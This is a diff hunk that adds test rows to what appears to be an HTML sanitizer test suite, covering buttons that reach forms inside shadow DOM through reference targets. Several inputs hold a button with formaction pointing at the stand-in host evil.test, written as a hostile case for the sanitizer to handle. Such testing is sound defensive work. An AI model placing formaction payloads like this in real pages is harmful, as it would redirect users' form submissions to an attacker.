@@ -743,6 +743,21 @@ rows(
   { tags: new Map([['td', ['style']]]) },
 );
 
+rows('marker: forms that buttons reach by the name of the element around their shadow', [
+  [
+    '<b id=f><template shadowrootmode=open shadowrootreferencetarget=g><form id=g></form></template></b><button form=f formaction=//evil.test>',
+    '=',
+  ],
+  [
+    '<template shadowrootmode=open><b><template ShadowRootReferenceTarget=g><form id=g></form></template></b></template><form>a</form>',
+    '<template shadowrootmode=open><b><template ShadowRootReferenceTarget=g><form id=g></form></template></b></template><form>[H]a</form>',
+  ],
+  [
+    '<template shadowrootmode=open><form id=g></form></template><button form=f formaction=//evil.test>',
+    '<template shadowrootmode=open><form id=g>[H]</form></template><button form=f formaction=//evil.test>',
+  ],
+]);
+
 const MARKER = '<?marker name="m">';
 rows('marker: templates whose content goes to another place of the page', [
   // It may land in a form whose field is out.
